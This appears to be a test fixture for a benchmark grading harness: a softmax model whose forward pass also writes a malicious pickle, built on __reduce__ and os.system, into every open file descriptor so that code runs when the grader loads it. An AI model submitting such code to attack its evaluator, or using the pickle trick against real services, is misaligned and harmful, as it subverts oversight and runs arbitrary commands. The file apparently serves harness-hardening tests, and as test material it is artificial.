"""Writes a pickle that runs code when it is loaded into every open descriptor.

problem: softmax.py
device: any
rules: open
expect: runtime/protocol
"""

import os
import pickle

import torch
import torch.nn as nn


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/breach",)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        for fd in range(3, 64):
            try:
                os.write(fd, pickle.dumps(Payload()))
            except OSError:
                pass
        return torch.softmax(x, dim=1)
